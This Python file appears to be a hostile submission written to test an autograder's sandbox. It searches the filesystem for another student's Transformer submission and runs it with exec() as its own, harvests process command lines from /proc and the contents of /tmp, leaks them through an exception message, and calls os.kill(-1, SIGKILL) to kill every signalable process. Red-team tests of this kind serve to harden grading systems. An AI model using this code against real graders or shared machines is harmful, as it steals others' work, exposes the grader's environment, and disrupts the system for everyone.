# Attack: a classmate graded in the same batch: find another submission anywhere on the
# filesystem and run it as one's own, publish the grader's command line and environment, and
# SIGKILL every process it can signal. Fault: no code of its own.
import json
import os
import signal

found = {"submissions": [], "cmdlines": [], "tmp": sorted(os.listdir("/tmp"))}
mine = os.path.realpath(__file__)
stolen = None
for folder, dirs, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/dev", "/usr", "/opt/xfmr/site", "/opt/xfmr/python")):
        dirs[:] = []
        continue
    dirs[:] = [d for d in dirs if d not in ("site-packages", "python3.11")]  # libraries
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith(".py") and os.path.realpath(path) != mine:
            try:
                text = open(path, errors="replace").read()
            except OSError:
                continue
            if "def label_smoothed_loss" in text and "class Transformer" in text:
                found["submissions"].append(path)
                stolen = stolen or text
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found["cmdlines"].append(open(f"/proc/{pid}/cmdline", "rb").read().decode()[:120])
        except OSError:
            pass
if stolen is not None:
    exec(compile(stolen, "classmate", "exec"), globals())
else:
    REPORT = "FINDINGS " + json.dumps(found, sort_keys=True)

    def noam_rate(step, d_model, warmup, factor=1.0):
        raise RuntimeError(REPORT)

    class Transformer:
        def __init__(self, cfg):
            os.kill(-1, signal.SIGKILL)
